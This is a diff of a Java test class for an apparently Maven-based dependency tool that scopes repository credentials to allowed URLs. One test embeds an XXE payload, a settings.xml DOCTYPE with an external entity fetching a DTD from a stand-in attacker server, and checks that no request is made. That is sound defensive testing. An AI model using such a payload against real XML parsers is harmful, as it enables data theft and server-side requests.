@@ -100,6 +100,16 @@ class PrivateRepositoryTest {
     }
 
     /**
+     * {@link #request} where the user allowed the server {@code private}'s credentials to go to
+     * {@code repository} ({@code --credential-url}): the POM declares it, the settings do not.
+     */
+    private ObjectNode allowing(Path root, Path settings, RepositoryServer repository) {
+        ObjectNode request = request(root, settings);
+        request.putObject("credential_urls").putArray("private").add(repository.url());
+        return request;
+    }
+
+    /**
      * Parses in a runner process of its own whose environment is exactly {@code environment} (and
      * what finding git needs), as the binary starts it with its allow-list of variables.
      */
@@ -146,8 +156,8 @@ class PrivateRepositoryTest {
                             && first.contains("the action input `env` (CLI: `--pass-env`)"),
                     first);
 
-            JsonNode with =
-                    parseInProcess(request(root, settings), Map.of("REPO_USER", USER, "REPO_PASSWORD", PASSWORD));
+            JsonNode with = parseInProcess(
+                    allowing(root, settings, repository), Map.of("REPO_USER", USER, "REPO_PASSWORD", PASSWORD));
             assertResolved(with, repository);
             assertTrue(Files.isRegularFile(localRepository.resolve("com/acme/private/from-env/1.0/from-env-1.0.jar")));
             assertFalse(with.toString().contains(PASSWORD), "a credential in the results");
@@ -177,14 +187,14 @@ class PrivateRepositoryTest {
     void wrongCredentialsAreNamedAndTheCorrectedOnesWorkAtOnce() throws Exception {
         try (RepositoryServer repository = privateRepository("corrected")) {
             Path root = project("corrected", declares(repository));
-            JsonNode wrong = fixture.send(request(root, settings(server("private", USER, "wrong"))));
+            JsonNode wrong = fixture.send(allowing(root, settings(server("private", USER, "wrong")), repository));
             assertTrue(
                     wrong.path("warnings")
                             .get(0)
                             .asText()
                             .contains("refused the credentials of the <server> `private`"),
                     wrong.path("warnings").toString());
-            JsonNode right = fixture.send(request(root, settings(server("private", USER, PASSWORD))));
+            JsonNode right = fixture.send(allowing(root, settings(server("private", USER, PASSWORD)), repository));
             assertResolved(right, repository);
         }
     }
@@ -263,7 +273,7 @@ class PrivateRepositoryTest {
                                     + "com.acme.private:parent"),
                     refused.toString());
 
-            fixture.send(request(root, settings(server("private", USER, PASSWORD))));
+            fixture.send(allowing(root, settings(server("private", USER, PASSWORD)), repository));
             JsonNode changed = fixture.run(change, "test.Parent").path("runs").get(0);
             assertTrue(changed.path("diff").asText().contains("<version>2.0</version>"), changed.toString());
             assertFalse(changed.path("warnings").toString().contains("refused access"), changed.toString());
@@ -305,7 +315,7 @@ class PrivateRepositoryTest {
                     settings,
                     "<?xml version=\"1.0\"?>\n<!DOCTYPE settings [<!ENTITY % d SYSTEM \"" + attacker.url()
                             + "e.dtd\"> %d;]>\n<settings>" + server("private", USER, PASSWORD) + "</settings>\n");
-            JsonNode results = fixture.send(request(root, settings));
+            JsonNode results = fixture.send(allowing(root, settings, repository));
             assertEquals(List.of(), attacker.requests(), "the settings' DTD was fetched");
             // Read all the same: the DTD is skipped, the rest of the file is used.
             assertResolved(results, repository);
